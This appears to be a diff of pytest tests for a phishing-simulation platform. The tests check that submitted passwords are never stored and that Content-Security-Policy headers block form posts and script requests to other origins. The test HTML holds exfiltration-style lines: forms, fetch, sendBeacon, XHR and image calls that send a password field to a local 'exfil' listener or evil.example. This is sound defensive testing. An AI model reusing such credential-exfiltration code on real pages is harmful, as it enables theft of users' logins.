@@ -48,6 +48,7 @@ from tracking_support import (
     recipient_by_email,
     recipient_events,
     rid_of,
+    wait_until,
 )
 
 PAGES = "/api/v1/pages"
@@ -70,9 +71,12 @@ def server():
 # --------------------------------------------------------------------------- helpers
 
 
-def make_page(api, html=EVIL_FORM, capture="values", redirect_url="") -> dict:
+def make_page(api, html=EVIL_FORM, capture="values", redirect_url="", safe_fields=(),
+              allow_scripts=False) -> dict:
     return expect(api.post(PAGES, json={"name": uniq("page"), "html": html, "capture": capture,
-                                        "redirect_url": redirect_url}), 201)
+                                        "redirect_url": redirect_url,
+                                        "safe_fields": list(safe_fields),
+                                        "allow_scripts": allow_scripts}), 201)
 
 
 def outbox_campaign(api, server, n: int, page: dict | None = None, tmpl: dict | None = None,
@@ -126,7 +130,7 @@ def test_end_to_end_sink_pixel_click_submit_no_secret_anywhere(make_server, make
                               'password</a></p>{{.Tracker}}',
                          text="Dear {{.FirstName}}, keep your password: {{.URL}}",
                          red_flags=[RED_FLAG])
-    page = make_page(api)
+    page = make_page(api, safe_fields=["username", "department"])
     group = make_group(api, 3)
     c = create_campaign(api, [tmpl["id"]], [group["id"]], profile["id"], page_id=page["id"])
     cid = c["id"]
@@ -228,7 +232,9 @@ def test_submit_capture_secret_names_and_form_rewrite(api, server):
     html = ('<form method="get" action="/elsewhere"><input name="email"></form>'
             '<p>text</p><FORM ACTION="https://evil.example/2"><input name="city">'
             '<input type="password" name="whatever"></FORM><form><input name="x"></form>')
-    page = make_page(api, html=html, capture="values")
+    plain = {"email": "alice@example.test", "city": "Springfield", "full_name": "Alice A",
+             "note": "hello"}
+    page = make_page(api, html=html, capture="values", safe_fields=plain)
     x = outbox_campaign(api, server, 1, page=page)
     email, rid = next(iter(x["rids"].items()))
     base = server.phish_url
@@ -244,9 +250,8 @@ def test_submit_capture_secret_names_and_form_rewrite(api, server):
     secret_names = ["whatever", "Pass-Word", "user_PIN", "card.number", "CVV2", "pw",
                     "mfa-token", "security_question", "IBAN", "One Time Code", "api_key",
                     "SSN", "social", "pwd", "otp", "secretSauce", "2FA", "my answer",
-                    "Account", "cvc", "credit"]
-    plain = {"email": "alice@example.test", "city": "Springfield", "full_name": "Alice A",
-             "pw2": "not-a-secret-by-the-rules", "note": "hello"}
+                    "Account", "cvc", "credit", "kennwort", "senha", "wachtwoord", "pw2", "p",
+                    "p4ssw0rd", "username"]
     data = {n: f"S3cr3t-{i}-{random_password(10)}" for i, n in enumerate(secret_names)}
     data.update(plain)
     data["empty_field"] = ""
@@ -268,6 +273,96 @@ def test_submit_capture_secret_names_and_form_rewrite(api, server):
         assert v not in text, v
 
 
+def test_valueless_form_action_keeps_the_page_and_no_password(api, server):
+    """The reviewed case: `<form action class="login">` once overwrote the markup after
+    it and the password input's name, and the password was stored under capture values."""
+    html = ('<html><body><form action class="login"><input name="username">'
+            '<input type=password name=pw><button>Sign in</button></form>'
+            '<p id="after">after the form</p></body></html>')
+    page = make_page(api, html=html, capture="values", safe_fields=["username"])
+    x = outbox_campaign(api, server, 1, page=page)
+    email, rid = next(iter(x["rids"].items()))
+    person = PhishClient(server.phish_url, source_ip=fresh_ip())
+    r = person.hit("click", rid)
+    assert r.status_code == 200, r.text
+    assert '<input type=password name=pw><button>Sign in</button></form><p id="after">' in r.text
+    forms = HtmlScan(r.text).forms
+    assert len(forms) == 1, r.text
+    assert forms[0]["action"] == f"{server.phish_url}/?rid={rid}", forms[0]
+    assert [i["name"] for i in forms[0]["inputs"]] == ["username", "pw"], forms[0]
+    secret = "Zq" + random_password(20)
+    r = person.post(forms[0]["action"], data={"username": "ada", "pw": secret})
+    assert r.status_code == 200, r.text[:300]
+    sub = the_event(api, x["cid"], x["rcpts"][email]["id"], "submitted")
+    assert sub["details"] == {"fields": ["username", "pw"], "values": {"username": "ada"}}, sub
+    assert secret not in str(recipient_events(api, x["cid"], x["rcpts"][email]["id"]))
+
+
+def _csp(r) -> dict[str, str]:
+    header = r.headers.get("Content-Security-Policy", "")
+    assert header, (r.request.method, r.request.url, r.status_code, dict(r.headers))
+    out = {}
+    for part in header.split(";"):
+        words = part.split()
+        if words:
+            out[words[0]] = " ".join(words[1:])
+    return out
+
+
+def test_content_security_policy_on_every_phish_answer(api, server):
+    page = make_page(api, redirect_url="https://example.test/thanks")
+    x = outbox_campaign(api, server, 1, page=page)
+    _, rid = next(iter(x["rids"].items()))
+    plain = outbox_campaign(api, server, 1)  # no landing page: the teaching page
+    _, plain_rid = next(iter(plain["rids"].items()))
+    person = PhishClient(server.phish_url, source_ip=fresh_ip())
+
+    landing = person.hit("click", rid)
+    assert landing.status_code == 200, landing.text
+    policy = _csp(landing)
+    assert policy["form-action"] == "'self'" and policy["connect-src"] == "'self'", policy
+    assert policy["object-src"] == "'none'" and policy["frame-src"] == "'none'", policy
+    assert policy["default-src"] == "'none'" and policy["frame-ancestors"] == "'none'", policy
+    assert policy["script-src"].startswith("'nonce-") and len(policy["script-src"].split()) == 1
+    for kind in ("img-src", "style-src", "font-src"):
+        assert "*" in policy[kind].split(), (kind, policy)  # cloned pages keep their look
+    again = _csp(person.hit("click", rid))
+    assert again["script-src"] != policy["script-src"], "the nonce must be fresh per answer"
+
+    others = {
+        "pixel": person.hit("pixel", rid),
+        "teaching": person.hit("click", plain_rid),
+        "submit teaching": person.hit("submit", plain_rid, data={"a": "b"}),
+        "submit redirect": person.hit("submit", rid, data={"a": "b"}),
+        "decoy": person.hit("decoy", rid),
+        "report": person.hit("report", rid),
+        "unknown rid": person.hit("click", "nonexistentrid000000000"),
+        "unknown path": person.get("/wp-admin"),
+        "healthz": person.get("/healthz"),
+        "headers too large": person.get("/", headers={"X-Big": "a" * 20000}),
+    }
+    assert others["headers too large"].status_code == 431, others["headers too large"]
+    for what, r in others.items():
+        assert r.status_code < 500, (what, r.status_code)
+        p = _csp(r)
+        assert p.get("default-src") == "'none'", (what, p)
+        assert "script-src" not in p, (what, p)  # no script runs on any of them
+        assert p.get("frame-ancestors") == "'none'", (what, p)
+
+
+def test_allowed_page_scripts_still_post_only_to_the_phish_server(api, server):
+    page = make_page(api, html="<form><input name=u></form><script>var a=1</script>",
+                     allow_scripts=True)
+    x = outbox_campaign(api, server, 1, page=page)
+    _, rid = next(iter(x["rids"].items()))
+    r = PhishClient(server.phish_url, source_ip=fresh_ip()).hit("click", rid)
+    policy = _csp(r)
+    assert "'unsafe-inline'" in policy["script-src"].split(), policy
+    assert "nonce-" not in policy["script-src"], "a nonce would switch 'unsafe-inline' off"
+    assert policy["form-action"] == "'self'" and policy["connect-src"] == "'self'", policy
+    assert policy["object-src"] == "'none'" and policy["worker-src"] == "'none'", policy
+
+
 @pytest.mark.parametrize("capture", ["none", "fields"])
 def test_submit_capture_modes_and_redirect(api, server, capture):
     page = make_page(api, capture=capture, redirect_url="https://example.test/thanks")
@@ -276,8 +371,10 @@ def test_submit_capture_modes_and_redirect(api, server, capture):
     person = PhishClient(server.phish_url, source_ip=fresh_ip())
     r = person.hit("submit", rid, data={"username": "bob", "pw_field": "hunter2hunter2",
                                         "department": ""})
-    assert r.status_code == 303, (r.status_code, r.text[:300])
-    assert r.headers["Location"] == "https://example.test/thanks", r.headers
+    # A navigation, not a 303: form-action 'self' would stop a redirect of the POST.
+    assert r.status_code == 200, (r.status_code, r.text[:300])
+    assert ('<meta http-equiv="refresh" content="0;url=https://example.test/thanks">'
+            in r.text), r.text
     rc = x["rcpts"][email]
     evs = recipient_events(api, x["cid"], rc["id"])
     sub = only(evs, "submitted")
@@ -722,3 +819,75 @@ def test_red_flags_at_most_20(api):
     expect_error(r, 422, "validation")
     t = make_template(api, red_flags=flags[:20])
     assert len(t["red_flags"]) == 20
+
+
+# --------------------------------------------------------------------------- CSP in a browser
+
+
+class _Exfil:
+    """A listener on another origin that records every path requested from it."""
+
+    def __init__(self):
+        import http.server
+        import threading
+        paths = self.paths = []
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def _record(self):
+                paths.append(self.path)
+                self.send_response(204)
+                self.end_headers()
+
+            do_GET = do_POST = _record
+
+            def log_message(self, *args):
+                pass
+
+        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.origin = f"http://127.0.0.1:{self.httpd.server_port}"
+        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()
+
+    def close(self):
+        self.httpd.shutdown()
+
+
+def test_landing_page_policy_in_a_browser(api, server):
+    from browser_support import run_scenario
+    exfil = _Exfil()
+    try:
+        blocked = make_page(api, html=(
+            f'<html><body><form action="{exfil.origin}/steal" method="get" target="_blank">'
+            '<input name="username"><input type="password" name="pw">'
+            f'<button id="go" formaction="{exfil.origin}/steal2" formtarget="w">Sign in</button>'
+            f'</form><script>window.__ran = true; fetch("{exfil.origin}/fetch-blocked");</script>'
+            '<img src="missing.png" onerror="window.__handler = true"></body></html>'))
+        allowed = make_page(api, allow_scripts=True, html=(
+            '<html><body><form id="f"><input type="password" name="pw" value="typed"></form>'
+            '<script>window.__violated = [];'
+            'document.addEventListener("securitypolicyviolation",'
+            ' (e) => window.__violated.push(e.effectiveDirective));'
+            f'fetch("{exfil.origin}/fetch").catch(() => {{}});'
+            f'navigator.sendBeacon("{exfil.origin}/beacon", "pw");'
+            f'try {{ const x = new XMLHttpRequest(); x.open("POST", "{exfil.origin}/xhr");'
+            ' x.send("pw"); } catch (e) {}'
+            f'new Image().src = "{exfil.origin}/image";'
+            'window.__attempted = true;</script></body></html>'))
+        x = outbox_campaign(api, server, 1, page=blocked)
+        y = outbox_campaign(api, server, 1, page=allowed)
+        _, rid_blocked = next(iter(x["rids"].items()))
+        _, rid_allowed = next(iter(y["rids"].items()))
+        result = run_scenario("landing_csp", {
+            "blocked_url": f"{server.phish_url}/?rid={rid_blocked}",
+            "allowed_url": f"{server.phish_url}/?rid={rid_allowed}",
+            "exfil_origin": exfil.origin, "desktop_ua": BROWSER_UA})
+        # The page's own script and event handler did not run; the button posted back.
+        assert result["blocked"]["ran"] == {"script": False, "handler": False}, result
+        assert result["blocked"]["after"] == f"{server.phish_url}/?rid={rid_blocked}", result
+        # Allowed scripts ran, but the form could not leave, and nothing reached the other
+        # site but the image URL (the remaining risk docs/tracking.md states).
+        assert result["allowed"]["after"] == result["allowed"]["before"], result
+        assert "connect-src" in result["allowed"]["violated"], result
+        wait_until(lambda: "/image" in exfil.paths, 10, "the image request (positive control)")
+        assert exfil.paths == ["/image"], exfil.paths
+    finally:
+        exfil.close()
